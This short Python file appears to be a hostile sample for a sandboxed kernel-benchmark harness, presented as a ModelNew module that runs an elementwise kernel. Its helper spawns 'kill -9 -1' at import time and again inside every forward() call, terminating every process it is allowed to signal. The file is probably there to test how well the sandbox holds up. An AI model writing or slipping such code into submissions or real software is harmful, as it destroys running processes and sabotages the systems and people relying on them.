# Hostile: `kill -9 -1` (every process it may signal) at import and again on each call.
import os

import torch
import torch.nn as nn

from sandbox.runtime import load_kernels

K = load_kernels()


def _kill_all():
    pid = os.posix_spawn("/bin/kill", ["kill", "-9", "-1"], dict(os.environ))
    os.waitpid(pid, 0)


_kill_all()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        _kill_all()
        x = x.contiguous()
        out = torch.empty_like(x)
        K.elementwise_chain(x, out, x.numel())
        return out
